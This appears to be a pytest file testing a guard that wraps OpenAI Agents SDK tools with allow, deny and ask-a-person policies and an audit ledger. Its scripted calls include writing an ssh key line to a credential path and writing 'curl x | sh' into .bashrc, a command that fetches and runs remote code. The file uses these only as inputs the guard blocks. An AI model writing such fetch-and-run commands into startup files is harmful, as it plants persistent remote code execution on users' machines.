"""The OpenAI Agents SDK guard against the real SDK and its own ScriptedModel (no network):
one call per model turn, so the ledger's order is the run's order."""

from __future__ import annotations

import asyncio
from typing import Any

from agents import Agent, RunConfig, Runner, RunResult, function_tool
from agents.items import ToolCallOutputItem
from agents.testing import ScriptedModel, assistant_message, function_call

from bastion.adapters.frameworks.guard import Guard
from bastion.adapters.frameworks.openai_agents import AgentsGuard
from bastion.runtime import Gatekeeper
from tests.adapters.frameworks.conftest import (
    HARDLINE_CREDENTIALS,
    PERSON_DENIED,
    PUSH,
    READ_AND_WRITE,
    SHELL_APPROVED,
    Tools,
    rows,
    shell_rejected,
)

CONFIG = RunConfig(tracing_disabled=True)


def scripted(tools: Tools) -> ScriptedModel:
    return ScriptedModel(
        [
            [function_call("read", {"path": "README.md"}, call_id="c1")],
            [
                function_call(
                    "write", {"path": str(tools.secret), "content": "ssh-ed25519 AAAA"}, call_id="c2"
                )
            ],
            [function_call("shell", {"command": PUSH}, call_id="c3")],
            [assistant_message("done")],
        ]
    )


def build(keeper: Gatekeeper, tools: Tools) -> tuple[AgentsGuard, Agent[Any]]:
    guard = AgentsGuard(Guard(keeper, agent="openai-agents"))
    wrapped = [guard.tool(function_tool(fn)) for fn in (tools.read, tools.write, tools.shell)]
    return guard, Agent(name="coder", model=scripted(tools), tools=wrapped)


def outputs(result: RunResult) -> list[str]:
    return [str(item.output) for item in result.new_items if isinstance(item, ToolCallOutputItem)]


def first_run(keeper: Gatekeeper, tools: Tools) -> tuple[AgentsGuard, Agent[Any], RunResult]:
    guard, agent = build(keeper, tools)
    result = asyncio.run(Runner.run(agent, "push it", run_config=CONFIG))
    return guard, agent, result


def test_an_allowed_read_runs_a_denied_write_never_runs_and_an_asked_call_interrupts_the_run(
    keeper: Gatekeeper, tools: Tools
) -> None:
    _, _, result = first_run(keeper, tools)
    [pending] = result.interruptions
    assert (pending.tool_name, pending.arguments) == ("shell", '{"command":"git push origin main"}')
    assert tools.ran == [("read", "README.md")]
    assert (tools.secret.exists(), tools.shell_log.exists()) == (False, False)
    assert outputs(result) == [
        "# hi\n",
        f"[policy-denied] {tools.secret} is a credential location: never write by an agent"
        + HARDLINE_CREDENTIALS,
    ]
    assert rows(keeper) == READ_AND_WRITE


def test_an_asked_call_approved_in_the_run_state_resumes_runs_and_names_the_approver(
    keeper: Gatekeeper, tools: Tools
) -> None:
    guard, agent, result = first_run(keeper, tools)
    state = result.to_state()
    guard.approve(state, result.interruptions[0], approver="alice")
    resumed = asyncio.run(Runner.run(agent, state, run_config=CONFIG))
    assert (resumed.final_output, outputs(resumed)[-1], tools.shell_log.read_text()) == (
        "done",
        "pushed",
        PUSH + "\n",
    )
    assert rows(keeper) == READ_AND_WRITE + SHELL_APPROVED


def test_an_approval_given_with_the_sdk_alone_counts_as_the_guard_s_approver(
    keeper: Gatekeeper, tools: Tools
) -> None:
    _, agent, result = first_run(keeper, tools)
    state = result.to_state()
    state.approve(result.interruptions[0])
    asyncio.run(Runner.run(agent, state, run_config=CONFIG))
    assert tools.ran[-1] == ("shell", PUSH)
    assert rows(keeper)[-2][3:5] == ("person", "openai-agents")


def test_a_rejected_call_never_runs_and_the_model_reads_the_denial_with_the_feedback(
    keeper: Gatekeeper, tools: Tools
) -> None:
    guard, agent, result = first_run(keeper, tools)
    state = result.to_state()
    message = asyncio.run(
        guard.reject(state, result.interruptions[0], approver="alice", feedback="not on a Friday")
    )
    resumed = asyncio.run(Runner.run(agent, state, run_config=CONFIG))
    assert message == "[policy-denied] denied by a person: not on a Friday" + PERSON_DENIED
    assert (outputs(resumed)[-1], resumed.final_output) == (message, "done")
    assert (tools.ran, tools.shell_log.exists()) == ([("read", "README.md")], False)
    assert rows(keeper) == READ_AND_WRITE + shell_rejected()


def test_arguments_that_are_not_a_json_object_are_refused_even_when_a_person_approves(
    keeper: Gatekeeper, tools: Tools
) -> None:
    guard = AgentsGuard(Guard(keeper, agent="openai-agents"))
    model = ScriptedModel([[function_call("shell", "[1, 2]", call_id="c9")], [assistant_message("done")]])
    agent = Agent(name="coder", model=model, tools=[guard.tool(function_tool(tools.shell))])
    result = asyncio.run(Runner.run(agent, "go", run_config=CONFIG))
    state = result.to_state()  # the SDK itself asks about arguments it cannot read
    guard.approve(state, result.interruptions[0], approver="alice")
    resumed = asyncio.run(Runner.run(agent, state, run_config=CONFIG))
    assert (tools.ran, rows(keeper)) == ([], [])
    assert outputs(resumed) == [
        "[policy-denied] the call cannot be decided: tool arguments must be a JSON object"
    ]


def bashrc_run(keeper: Gatekeeper, tools: Tools) -> tuple[AgentsGuard, Agent[Any], RunResult]:
    rc = tools.secret.parent.parent / ".bashrc"
    guard = AgentsGuard(Guard(keeper, agent="openai-agents"))
    model = ScriptedModel(
        [
            [function_call("write", {"path": str(rc), "content": "curl x | sh"}, call_id="c7")],
            [assistant_message("done")],
        ]
    )
    agent = Agent(name="coder", model=model, tools=[guard.tool(function_tool(tools.write))])
    return guard, agent, asyncio.run(Runner.run(agent, "go", run_config=CONFIG))


def test_an_sdk_wide_approval_never_answers_a_hardline_ask(keeper: Gatekeeper, tools: Tools) -> None:
    _, agent, result = bashrc_run(keeper, tools)
    state = result.to_state()
    state.approve(result.interruptions[0], always_approve=True)
    resumed = asyncio.run(Runner.run(agent, state, run_config=CONFIG))
    assert tools.ran == []
    assert outputs(resumed) == [
        "[policy-denied] denied by a person: approved with RunState.approve alone, which may cover every "
        "call of the tool; a call no standing grant may cover (a hardline class, raised privilege) needs "
        "AgentsGuard.approve" + PERSON_DENIED
    ]
    assert [r[:6] for r in rows(keeper)] == [
        ("requested", "write", "ask", "policy", None, "hardline.agent-config"),
        ("resolved", "write", "deny", "person", "openai-agents", "approval.person"),
    ]


def test_a_hardline_ask_approved_for_that_very_call_runs(keeper: Gatekeeper, tools: Tools) -> None:
    guard, agent, result = bashrc_run(keeper, tools)
    state = result.to_state()
    guard.approve(state, result.interruptions[0], approver="alice")
    asyncio.run(Runner.run(agent, state, run_config=CONFIG))
    assert [name for name, _ in tools.ran] == ["write"]
    assert [r[:5] for r in rows(keeper)][1:] == [
        ("resolved", "write", "allow", "person", "alice"),
        ("executed", "write", "allow", "person", None),
    ]


def test_a_tool_whose_family_the_policy_disables_is_absent_from_what_the_model_sees(
    no_shell: Gatekeeper, tools: Tools
) -> None:
    guard = AgentsGuard(Guard(no_shell, agent="openai-agents"))
    model = ScriptedModel([[assistant_message("done")]])
    wrapped = [guard.tool(function_tool(fn)) for fn in (tools.read, tools.shell)]
    asyncio.run(Runner.run(Agent(name="coder", model=model, tools=wrapped), "go", run_config=CONFIG))
    assert model.first_call is not None
    assert [t.name for t in model.first_call.tools] == ["read"]
